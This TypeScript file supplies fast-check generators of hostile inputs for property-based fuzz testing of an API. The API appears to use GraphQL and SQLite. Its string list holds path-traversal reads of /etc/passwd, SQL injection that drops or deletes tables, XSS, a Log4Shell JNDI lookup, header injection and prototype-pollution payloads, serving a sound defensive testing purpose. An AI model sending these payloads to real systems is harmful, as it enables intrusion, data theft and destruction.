import fc from 'fast-check';
import { DeepList } from './hostile-encoding';

/**
 * Arbitraries for hostile values: what a careless or malicious client may put in any field. None of
 * them contains what the oracle (hostile-oracle.ts) looks for in answers (stack frames, file paths,
 * SQLite errors, "Internal"), so an answer quoting the value back is never mistaken for a leak.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t\n\r\n',
  '\u0000',
  'a\u0000b',
  '\u0000'.repeat(16),
  '\u0007\u0008\u001b[31mred\u001b[0m',
  '\u007f\u0085\u2028\u2029',
  '\u00a0\u3000\u1680',
  '\u202emoc.elgoog',
  '\u200f\u2066\u2067\u2069',
  'zero\u200bwidth\u200d\ufeff',
  '\ud800',
  'a\udc00b',
  '\ud83d',
  '\uffff\ufffe\ufffd',
  '\u{10ffff}',
  '👨‍👩‍👧‍👦🏳️‍🌈😀',
  'e\u0301\u0302\u0303\u0304',
  `Z${'\u0336\u0337\u0338\u0489'.repeat(40)}`,
  'ﷺ ǅ ß İ ı ﬁ',
  'ＡＢＣ１２３',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd\u0000.png',
  'file:///etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  "' OR 1=1 --",
  '"; DROP TABLE incident_view; --',
  "'; DELETE FROM events; --",
  '1; SELECT * FROM sqlite_master',
  "Robert'); DROP TABLE members;--",
  "%' OR '1'='1",
  '%_%\\',
  '\\',
  "\\'",
  '"}',
  '"}]}',
  '{}',
  '[]',
  'null',
  'undefined',
  'true',
  '0',
  '-1',
  'NaN',
  'Infinity',
  '\\u0000',
  '{"__proto__":{"admin":true}}',
  '__proto__',
  'constructor',
  'toString',
  '{ me { tokenId } }',
  'mutation { revokeApiToken(input: {tokenId: "x"}) { apiToken { id } } }',
  '$input',
  '"""',
  '#',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '${jndi:ldap://example.invalid/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '%00',
  '%0d%0aSet-Cookie: x=1',
  'x\r\nX-Injected: 1',
  'A'.repeat(201),
  'x'.repeat(2_001),
  'y'.repeat(20_001),
];

const controlChar = fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c));

/** Strings far past every limit; the largest go past the body limit the suite sets (256 KiB). */
export const hugeString: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom('x', 'é', '😀', '\u0000', 'a.', ' '), fc.integer({ min: 1_000, max: 100_000 }))
  .map(([unit, times]) => unit.repeat(times));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: controlChar, minLength: 1, maxLength: 8 }) },
  { weight: 1, arbitrary: hugeString },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...HOSTILE_STRINGS), fc.string({ maxLength: 8 }))
      .map((parts) => parts.join('')),
  },
);

/** Any JSON value of the wrong type for the field at hand. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
  fc.jsonValue({ maxDepth: 3 }),
);

/** Lists nested thousands deep, kept as text so that the sender's own serialiser never recurses. */
export const deepList = (leaf: string): fc.Arbitrary<DeepList> =>
  fc.integer({ min: 2, max: 5_000 }).map((depth) => new DeepList(depth, leaf));

/** Extra keys a client may slip into an input object. */
const extraKey = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    '__typename',
    'id',
    'reporter',
    'actor',
    'admin',
    'role',
    'organisationId',
    'version',
    '',
  ),
  fc.string({ maxLength: 10 }),
);

/** An object with some unknown fields added (own `__proto__` included). */
export const withExtraFields = (object: Record<string, unknown>): fc.Arbitrary<Record<string, unknown>> =>
  fc
    .array(fc.tuple(extraKey, fc.oneof(hostileString, wrongType)), { minLength: 1, maxLength: 3 })
    .map((extras) => ({ ...object, ...Object.fromEntries(extras) }));

const OMIT = Symbol('omit');

/**
 * An input object: each field valid, hostile or left out; sometimes with unknown fields, sometimes
 * replaced whole by a value of the wrong type. `required` fields are never left out on purpose.
 */
export function hostileInput(
  valid: Record<string, fc.Arbitrary<unknown>>,
  hostile: Record<string, fc.Arbitrary<unknown>>,
  required: readonly string[] = [],
): fc.Arbitrary<unknown> {
  const fields = Object.fromEntries(
    Object.keys(valid).map((key) => {
      const options = [
        { weight: 3, arbitrary: valid[key] ?? fc.constant(OMIT) },
        { weight: 3, arbitrary: hostile[key] ?? valid[key] ?? fc.constant(OMIT) },
        ...(required.includes(key) ? [] : [{ weight: 1, arbitrary: fc.constant<unknown>(OMIT) }]),
      ];
      return [key, fc.oneof(...options)];
    }),
  );
  const object = fc
    .record(fields)
    .map((record) => Object.fromEntries(Object.entries(record).filter(([, value]) => value !== OMIT)));
  return fc.oneof(
    { weight: 8, arbitrary: object },
    { weight: 1, arbitrary: object.chain(withExtraFields) },
    { weight: 1, arbitrary: wrongType },
  );
}

/** A list of `item`: empty, a few, very long, deeply nested, or not a list at all. */
export const hostileList = (
  item: fc.Arbitrary<unknown>,
  filler: string,
  maxLength = 4,
): fc.Arbitrary<unknown> =>
  fc.oneof(
    { weight: 6, arbitrary: fc.array(item, { maxLength }) },
    {
      weight: 1,
      arbitrary: fc.integer({ min: 100, max: 20_000 }).map((n) => Array.from({ length: n }, () => filler)),
    },
    { weight: 1, arbitrary: deepList(JSON.stringify(filler)) },
    { weight: 1, arbitrary: item },
    { weight: 1, arbitrary: wrongType },
  );
